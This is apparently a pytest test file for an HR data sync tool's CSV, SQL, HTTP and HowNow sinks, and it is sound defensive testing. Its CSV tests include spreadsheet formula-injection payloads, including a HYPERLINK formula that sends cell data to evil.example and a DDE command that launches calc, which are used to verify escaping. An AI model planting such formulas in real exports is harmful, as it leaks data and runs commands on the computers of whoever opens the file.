"""HR sinks: learning results land in a CSV file, a table or an HTTP endpoint as promised."""

from __future__ import annotations

import csv
import hashlib
import hmac
import json
import os
import stat
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

import pytest
from pydantic import TypeAdapter
from sqlalchemy import create_engine, select, text
from support_http import LoopbackServer, Received, Reply, dead_url

from syncd.assemble import open_sink
from syncd.config.schema.sinks import SinkConfig
from syncd.http import RetryPolicy
from syncd.model import ADDED_COLUMNS, RESULT_COLUMNS, LearningResult, ResultStatus
from syncd.sink_protocol import SinkError
from syncd.sinks.sql import results_table, upsert_portable
from syncd.vendors.hownow.sink import HowNowSink

FAST = RetryPolicy(attempts=4, backoff_initial=0.01, backoff_max=0.05, max_retry_after=0.05)
HEADER = ",".join(RESULT_COLUMNS) + "\n"


def sink(config: dict[str, Any], name: str = "training"):
    return open_sink(name, TypeAdapter(SinkConfig).validate_python(config), retry=FAST)


def result(user: str = "42", course: str = "101", **changes: Any) -> LearningResult:
    values: dict[str, Any] = {
        "vendor": "talentlms",
        "connector": "talentlms",
        "lms_user_id": user,
        "course_id": course,
        "hr_key": f"E{user}",
        "course_name": "Fire safety",
        "status": ResultStatus.COMPLETED,
        "progress": 100.0,
        "score": 87.5,
        "started_at": datetime(2024, 5, 1, 9, 0, tzinfo=UTC),
        "completed_at": datetime(2024, 5, 2, 10, 30, tzinfo=UTC),
        "updated_at": datetime(2024, 5, 2, 10, 30, tzinfo=UTC),
    }
    values.update(changes)
    return LearningResult(**values)


def line(r: LearningResult) -> str:
    row = r.as_row()
    cells = []
    for name in RESULT_COLUMNS:
        value = row[name]
        if value is None:
            cells.append("")
        elif isinstance(value, float):
            cells.append(str(int(value)) if value.is_integer() else str(value))
        else:
            cells.append(str(value))
    return ",".join(cells) + "\n"


# -- CSV ------------------------------------------------------------------------------------


def test_csv_row_format_is_exactly_the_contract(tmp_path):
    path = tmp_path / "training.csv"
    done = result()
    with sink({"type": "csv", "path": str(path)}) as out:
        out.write([done])
    assert path.read_text() == HEADER + (
        f"{done.result_id},talentlms,talentlms,E42,42,101,Fire safety,completed,100,87.5,"
        "2024-05-01T09:00:00Z,2024-05-02T10:30:00Z,,,2024-05-02T10:30:00Z,,,\n"
    )
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


CERTIFIED = {"credits": 2.5, "hours": 1.0, "certification_status": "Certified"}
OLDER_HEADER = ",".join(RESULT_COLUMNS[: -len(ADDED_COLUMNS)]) + "\n"


def test_csv_added_columns_come_last_in_the_contracts_order(tmp_path):
    path = tmp_path / "training.csv"
    done = result(certificate_expires_at=datetime(2025, 5, 2, tzinfo=UTC), **CERTIFIED)
    with sink({"type": "csv", "path": str(path)}) as out:
        out.write([done])
    header, row = path.read_text().splitlines()
    assert header.endswith(",updated_at,credits,hours,certification_status")
    assert row.endswith(",2025-05-02T00:00:00Z,2024-05-02T10:30:00Z,2.5,1,Certified")


@pytest.mark.parametrize("mode", ["append", "rewrite"])
def test_csv_file_with_the_older_header_is_widened_and_keeps_its_rows(tmp_path, mode):
    path = tmp_path / "training.csv"
    old_a, old_b = result("1"), result("2", status=ResultStatus.IN_PROGRESS)
    old_lines = [line(r).rsplit(",", len(ADDED_COLUMNS))[0] + "\n" for r in (old_a, old_b)]
    path.write_text(OLDER_HEADER + "".join(old_lines))  # as an earlier syncd wrote it
    later = result("2", **CERTIFIED)
    with sink({"type": "csv", "path": str(path), "mode": mode}) as out:
        out.write([later])
    kept = [line(old_a)] if mode == "rewrite" else [line(old_a), line(old_b)]
    assert path.read_text() == HEADER + "".join(kept) + line(later)
    with path.open() as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["credits"] == "" and rows[-1]["certification_status"] == "Certified"


def test_csv_append_keeps_every_delivery_with_one_header(tmp_path):
    path = tmp_path / "training.csv"
    first, other = result("42"), result("43", status=ResultStatus.IN_PROGRESS, progress=40.0)
    changed = result("42", score=92.0)
    out = sink({"type": "csv", "path": str(path)})
    out.write([first, other])
    out.write([changed])
    out.write([])  # nothing to deliver: the file is untouched
    assert path.read_text() == HEADER + line(first) + line(other) + line(changed)
    assert first.result_id == changed.result_id  # receivers de-duplicate on result_id


def test_csv_append_takes_a_result_delivered_again_unchanged_once(tmp_path):
    """A pull killed after the sink wrote its batch, before the delivery was recorded,
    delivers it again: the file must still hold it once, and a change after it again."""
    path = tmp_path / "training.csv"
    first, other = result("42"), result("43", status=ResultStatus.IN_PROGRESS, progress=40.0)
    changed = result("42", score=92.0)
    out = sink({"type": "csv", "path": str(path)})
    out.write([first, other])
    out.write([first, other])  # the same batch again
    out.write([other, changed])
    out.write([first])  # back to what it was: a change of its own, so a row of its own
    assert path.read_text() == HEADER + line(first) + line(other) + line(changed) + line(first)


def test_csv_rewrite_keeps_one_latest_row_per_result(tmp_path):
    path = tmp_path / "training.csv"
    a, b, c = result("1"), result("2", progress=10.0), result("3", course="7")
    out = sink({"type": "csv", "path": str(path), "mode": "rewrite"})
    out.write([a, b])
    b_later = result("2", progress=55.5, status=ResultStatus.IN_PROGRESS)
    out.write([c, b_later])
    assert path.read_text() == HEADER + line(a) + line(b_later) + line(c)


def test_csv_delimiter_and_quoting(tmp_path):
    path = tmp_path / "training.csv"
    named = result(course_name='Safety; part 1, "basics"')
    sink({"type": "csv", "path": str(path), "delimiter": ";"}).write([named])
    header, row = path.read_text().splitlines()
    assert header == ";".join(RESULT_COLUMNS)
    assert ';"Safety; part 1, ""basics""";' in row


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
]


def read_back(path) -> list[list[str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("mode", ["append", "rewrite"])
def test_csv_cells_a_spreadsheet_would_run_are_written_behind_a_quote(tmp_path, mode):
    path = tmp_path / "training.csv"
    out = sink({"type": "csv", "path": str(path), "mode": mode})
    rows = [result(user=str(n), course_name=name) for n, name in enumerate(FORMULAS)]
    out.write(rows)
    out.write([result(user="99", course_name="Fire safety", score=-1.5)])
    table = read_back(path)
    assert table[0] == list(RESULT_COLUMNS)
    column = RESULT_COLUMNS.index("course_name")
    assert [row[column] for row in table[1:]] == [f"'{name}" for name in FORMULAS] + ["Fire safety"]
    # Numbers syncd writes itself are numbers, not text a spreadsheet would run.
    assert table[-1][RESULT_COLUMNS.index("score")] == "-1.5"


def test_csv_formula_escaping_can_be_switched_off(tmp_path):
    path = tmp_path / "training.csv"
    out = sink({"type": "csv", "path": str(path), "escape_formulas": False})
    out.write([result(user=str(n), course_name=name) for n, name in enumerate(FORMULAS)])
    column = RESULT_COLUMNS.index("course_name")
    assert [row[column] for row in read_back(path)[1:]] == FORMULAS


@pytest.mark.parametrize("mode", ["append", "rewrite"])
def test_csv_line_breaks_inside_a_cell_read_back_as_the_rows_written(tmp_path, mode):
    path = tmp_path / "training.csv"
    out = sink({"type": "csv", "path": str(path), "mode": mode})
    names = ["Part\rone", "Part\ntwo", "Part\r\nthree", "plain"]
    out.write([result(user=str(n), course_name=name) for n, name in enumerate(names)])
    out.write([result(user="9", course_name="later\rtoo")])  # the old rows are read and kept
    table = read_back(path)
    column = RESULT_COLUMNS.index("course_name")
    assert len(table) == 1 + len(names) + 1
    assert [row[column] for row in table[1:]] == [*names, "later\rtoo"]
    assert all(len(row) == len(RESULT_COLUMNS) for row in table)


def test_csv_failed_write_leaves_the_old_file_intact(tmp_path, monkeypatch):
    path = tmp_path / "training.csv"
    out = sink({"type": "csv", "path": str(path), "mode": "rewrite"})
    out.write([result("1")])
    before = path.read_bytes()

    def disk_full(*args: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(SinkError, match="No space left on device"):
        out.write([result("1", score=10.0), result("2")])
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [".training.csv.lock", "training.csv"]


def test_csv_refuses_a_file_with_other_columns(tmp_path):
    path = tmp_path / "training.csv"
    path.write_text("employee,course\nE1,101\n")
    with pytest.raises(SinkError, match="other columns"):
        sink({"type": "csv", "path": str(path)}).write([result()])
    assert path.read_text() == "employee,course\nE1,101\n"


def test_csv_missing_folder_is_a_sink_error(tmp_path):
    with pytest.raises(SinkError, match="does not exist"):
        sink({"type": "csv", "path": str(tmp_path / "no" / "t.csv")}).write([result()])


def test_csv_concurrent_writers_lose_nothing(tmp_path):
    path = tmp_path / "training.csv"
    config = {"type": "csv", "path": str(path), "mode": "rewrite"}

    def deliver(prefix: str) -> None:
        out = sink(config)
        for n in range(15):
            out.write([result(f"{prefix}{n}")])

    threads = [threading.Thread(target=deliver, args=(p,)) for p in ("a", "b", "c")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    lines = path.read_text().splitlines()
    assert lines[0] == HEADER.strip()
    assert len(lines) == 1 + 45


# -- SQL ------------------------------------------------------------------------------------


def table_rows(db_url: str, table: str = "training_records") -> dict[str, dict[str, Any]]:
    engine = create_engine(db_url)
    with engine.connect() as conn:
        rows = conn.execute(select(results_table(table))).mappings().all()
    engine.dispose()
    return {row["result_id"]: dict(row) for row in rows}


def test_sql_upsert_keeps_one_row_per_result_with_latest_values(db_url):
    out = sink({"type": "sql", "url": db_url})
    a, b = result("1"), result("2", status=ResultStatus.IN_PROGRESS, progress=30.0, score=None)
    out.write([a, b])
    b_done = result("2", progress=100.0, completed_at=datetime(2024, 6, 1, 8, 0, tzinfo=UTC))
    c = result("3")
    out.write([b_done, c])
    out.close()
    rows = table_rows(db_url)
    assert set(rows) == {a.result_id, b.result_id, c.result_id}
    assert rows[b.result_id]["status"] == "completed"
    assert rows[b.result_id]["progress"] == 100.0
    assert rows[b.result_id]["completed_at"] == datetime(2024, 6, 1, 8, 0, tzinfo=UTC)
    assert rows[a.result_id]["certificate_url"] is None
    assert {k: v for k, v in rows[c.result_id].items() if k in RESULT_COLUMNS} == {
        **c.as_row(),
        **{name: getattr(c, name) for name in ("started_at", "completed_at", "updated_at")},
    }


def test_sql_same_result_twice_in_one_batch_keeps_the_last(db_url):
    with sink({"type": "sql", "url": db_url, "table": "results"}) as out:
        out.write([result("1", score=1.0), result("1", score=2.0)])
    [row] = table_rows(db_url, "results").values()
    assert row["score"] == 2.0


def test_sql_sqlite_dates_are_iso_utc_text(sqlite_url):
    with sink({"type": "sql", "url": sqlite_url}) as out:
        out.write([result(started_at=datetime(2024, 5, 1, 11, 0))])  # naive: taken as UTC
    engine = create_engine(sqlite_url)
    with engine.connect() as conn:
        stored = conn.execute(text("select started_at, completed_at from training_records")).one()
    engine.dispose()
    assert tuple(stored) == ("2024-05-01T11:00:00Z", "2024-05-02T10:30:00Z")


def test_sql_existing_table_without_contract_columns_is_refused(db_url):
    engine = create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(text("create table training_records (result_id varchar(64) primary key)"))
    engine.dispose()
    with pytest.raises(SinkError, match=r"lacks column.*connector, vendor"):
        sink({"type": "sql", "url": db_url}).write([result()])


OLDER_TABLE = """create table training_records (
    result_id varchar(64) primary key, connector varchar(200), vendor varchar(50),
    hr_key varchar(255), lms_user_id varchar(255), course_id varchar(255), course_name text,
    status varchar(20), progress float, score float, started_at varchar(32),
    completed_at varchar(32), certificate_url text, certificate_expires_at varchar(32),
    updated_at varchar(32))"""


def older_table(db_url: str) -> None:
    """The results table as an earlier syncd created it, with one row."""
    engine = create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(text(OLDER_TABLE.replace("varchar(32)", _date_type(db_url))))
        conn.execute(
            text("insert into training_records (result_id, status) values ('x1', 'passed')")
        )
    engine.dispose()


def _date_type(db_url: str) -> str:
    return "varchar(32)" if db_url.startswith("sqlite") else "timestamp with time zone"


def test_sql_table_without_the_added_columns_gets_them(db_url):
    older_table(db_url)
    later = result("2", **CERTIFIED)
    with sink({"type": "sql", "url": db_url}) as out:
        out.write([later])
    rows = table_rows(db_url)
    assert rows["x1"]["credits"] is None
    assert {name: rows[later.result_id][name] for name in ADDED_COLUMNS} == CERTIFIED


@pytest.fixture
def unalterable(db_url) -> Iterator[str]:
    """The older table, and a URL of it through which it cannot be altered: a read-only
    SQLite file, or a PostgreSQL role that may read and write its rows but not alter it."""
    older_table(db_url)
    if db_url.startswith("sqlite"):
        yield f"sqlite:///file:{db_url.removeprefix('sqlite:///')}?mode=ro&uri=true"
        return
    role = f"sink_{uuid.uuid4().hex[:10]}"
    engine = create_engine(db_url)
    with engine.begin() as conn:
        schema = conn.execute(text("select current_schema()")).scalar_one()
        conn.execute(text(f"create role {role} nologin"))
        conn.execute(text(f'grant usage on schema "{schema}" to {role}'))
        conn.execute(text(f"grant select, insert, update on training_records to {role}"))
    try:
        yield db_url + quote(f" -crole={role}")
    finally:
        with engine.begin() as conn:
            conn.execute(text(f"drop owned by {role}"))
            conn.execute(text(f"drop role {role}"))
        engine.dispose()


def test_sql_added_columns_that_cannot_be_added_refuse_the_batch_with_the_statement(
    db_url, unalterable
):
    with pytest.raises(SinkError) as refused:
        sink({"type": "sql", "url": unalterable}).write([result(**CERTIFIED)])
    message = str(refused.value)
    assert "lacks column(s) credits, hours, certification_status" in message
    assert "run: ALTER TABLE training_records ADD COLUMN credits" in message
    engine = create_engine(db_url)
    with engine.connect() as conn:  # nothing written, nothing altered
        assert conn.execute(text("select * from training_records")).keys() == [
            name for name in RESULT_COLUMNS if name not in ADDED_COLUMNS
        ]
        assert conn.execute(text("select result_id from training_records")).all() == [("x1",)]
    engine.dispose()


def test_sql_portable_upsert_matches(db_url):
    table = results_table("portable")
    engine = create_engine(db_url)
    table.metadata.create_all(engine)
    first, later = result("1"), result("1", score=12.5)
    for batch in ([first.as_row()], [later.as_row(), result("2").as_row()]):
        with engine.begin() as conn:
            rows = [
                {**row, **{n: None for n in ("started_at", "completed_at", "updated_at")}}
                for row in batch
            ]
            upsert_portable(conn, table, rows)
    engine.dispose()
    rows = table_rows(db_url, "portable")
    assert len(rows) == 2 and rows[first.result_id]["score"] == 12.5


def test_sql_unreachable_database_hides_the_password():
    url = "postgresql+psycopg://hr:sink-Secret-77@127.0.0.1:1/hr?connect_timeout=2"
    with pytest.raises(SinkError) as caught:
        sink({"type": "sql", "url": url}).write([result()])
    assert "sink-Secret-77" not in str(caught.value)


# -- HTTP -----------------------------------------------------------------------------------


def accept(request: Received) -> Reply:
    return Reply(202, {"accepted": len(request.json()["results"])})


def test_http_batches_carry_stable_idempotency_keys_and_valid_signatures():
    results = [result(str(n)) for n in range(5)]
    with LoopbackServer(accept) as server:
        config = {
            "type": "http",
            "url": server.url + "/training",
            "batch_size": 2,
            "hmac_secret": "hm-ac-secret",
            "auth": {"type": "bearer", "token": "sink-token"},
        }
        with sink(config) as out:
            out.write(results)
            out.write(results)  # the same batches again, e.g. after a crash
    first, again = server.requests[:3], server.requests[3:]
    assert [len(r.json()["results"]) for r in first] == [2, 2, 1]
    assert [row for r in first for row in r.json()["results"]] == [r.as_row() for r in results]
    for request in server.requests:
        assert request.headers["content-type"] == "application/json"
        assert request.headers["authorization"] == "Bearer sink-token"
        assert request.headers["idempotency-key"] == hashlib.sha256(request.body).hexdigest()
        expected = hmac.new(b"hm-ac-secret", request.body, hashlib.sha256).hexdigest()
        assert request.headers["x-syncd-signature"] == f"sha256={expected}"
    keys = [r.headers["idempotency-key"] for r in first]
    assert len(set(keys)) == 3
    assert [r.headers["idempotency-key"] for r in again] == keys


def test_http_rows_keep_column_order_and_nulls():
    with LoopbackServer(accept) as server:
        sink({"type": "http", "url": server.url}).write([result(score=None), result(**CERTIFIED)])
    [row, certified] = json.loads(server.requests[0].body)["results"]
    assert list(row) == list(RESULT_COLUMNS)  # the added keys come after SPEC §4's, in order
    assert row["score"] is None and row["certificate_url"] is None
    assert {name: row[name] for name in ADDED_COLUMNS} == dict.fromkeys(ADDED_COLUMNS)
    assert {name: certified[name] for name in ADDED_COLUMNS} == CERTIFIED


def test_http_recovers_after_two_server_errors():
    answers = iter([Reply(500), Reply(503), Reply(200)])
    with LoopbackServer(lambda r: next(answers)) as server:
        sink({"type": "http", "url": server.url + "/training"}).write([result()])
    assert len(server.requests) == 3
    assert len({r.headers["idempotency-key"] for r in server.requests}) == 1


def test_http_400_is_a_sink_error_without_secrets():
    def refuse(request: Received) -> Reply:
        return Reply(400, {"error": "bad row; your token sink-token and key hm-ac-secret"})

    with LoopbackServer(refuse) as server:
        config = {
            "type": "http",
            "url": server.url + "/training",
            "hmac_secret": "hm-ac-secret",
            "auth": {"type": "bearer", "token": "sink-token"},
        }
        with pytest.raises(SinkError) as caught:
            sink(config).write([result()])
    message = str(caught.value)
    assert "answered 400" in message and "bad row" in message
    assert "sink-token" not in message and "hm-ac-secret" not in message
    assert len(server.requests) == 1


def test_http_oauth2_sink_authenticates_through_the_token_endpoint():
    def answer(request: Received) -> Reply:
        if request.path == "/token":
            return Reply(200, {"access_token": "sink-tok", "expires_in": 600})
        ok = request.headers.get("authorization") == "Bearer sink-tok"
        return Reply(200 if ok else 401)

    with LoopbackServer(answer) as server:
        config = {
            "type": "http",
            "url": server.url + "/training",
            "auth": {
                "type": "oauth2",
                "token_url": server.url + "/token",
                "client_id": "syncd",
                "client_secret": "oauth-sink-secret",
            },
        }
        with sink(config) as out:
            out.write([result("1")])
            out.write([result("2")])
    assert [r.path for r in server.requests] == ["/token", "/training", "/training"]


def test_http_sink_trickling_its_head_is_stopped_at_the_deadline_naming_the_sink():
    slow_head = Reply(202, {"accepted": 1}, head_trickle=0.1)  # about 10 s, a byte at a time
    config = {"type": "http", "url": "", "timeout": 5, "deadline": 0.5}
    with LoopbackServer(lambda r: slow_head) as server:
        started = time.monotonic()
        with pytest.raises(SinkError, match=r"took longer than 0\.5s in all") as caught:
            sink({**config, "url": server.url + "/training"}, name="hr_api").write([result()])
        assert time.monotonic() - started < 8  # four tries of half a second, not slow heads
    assert str(caught.value).startswith("sink 'hr_api': ")


def test_http_dead_endpoint_is_a_sink_error():
    with pytest.raises(SinkError, match="could not connect"):
        sink({"type": "http", "url": dead_url() + "/training"}).write([result()])


# -- HowNow ---------------------------------------------------------------------------------

HOWNOW = {
    "type": "hownow",
    "base_url": "https://api.hownow.app",
    "client_id": "id",
    "client_secret": "hn-secret",
}


def test_hownow_sink_is_opened_from_the_hownow_vendor_package():
    opened = sink(HOWNOW, name="lrs")
    try:
        assert isinstance(opened, HowNowSink)
        assert (opened.name, opened.api.client.base_url) == ("lrs", "https://api.hownow.app")
    finally:
        opened.close()
